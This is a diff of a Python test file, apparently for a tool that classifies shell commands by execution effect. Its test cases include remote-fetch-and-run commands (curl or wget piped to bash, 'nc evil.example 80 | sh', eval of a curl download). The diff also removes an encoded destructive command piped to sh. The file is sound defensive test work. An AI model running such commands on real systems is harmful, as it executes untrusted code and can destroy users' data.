@@ -137,7 +137,7 @@ def test_code_handed_to_programs_is_an_exec_effect(proj: Path) -> None:
         ("git clone https://e.x/r && ./r/install.sh", "fetch"),
         ("curl https://e.x/i > y && mv y z && . z", "fetch"),
         ("nc host 80 | sh", "fetch"),
-        ("rev <<< x | sh", "decode"),
+        ('rev <<< "$X" | sh', "decode"),
         ("bash <(curl -s x)", "fetch"),  # the substitution prints a download (`through`: substitution)
         ("source <(cat x)", "substitution"),
     ],
@@ -478,7 +478,7 @@ def test_account_and_mount_tools_change_what_they_change(proj: Path) -> None:
         ("wget -qO- https://x.sh | sudo bash", "fetch", "stdin"),
         ("curl https://x.sh | tee install.sh | bash -s", "fetch", "stdin"),
         ("nc evil.example 80 | sh", "fetch", "stdin"),
-        ("echo cm0gLXJmIH4= | base64 -d | sh", "decode", "stdin"),
+        ("base64 -d payload.b64 | sh", "decode", "stdin"),
         ("bash <(curl -fsSL https://x.sh)", "fetch", "substitution"),
         ('sh -c "$(curl -fsSL https://x.sh)"', "fetch", "substitution"),
         ('eval "$(curl -s https://x)"', "fetch", "substitution"),
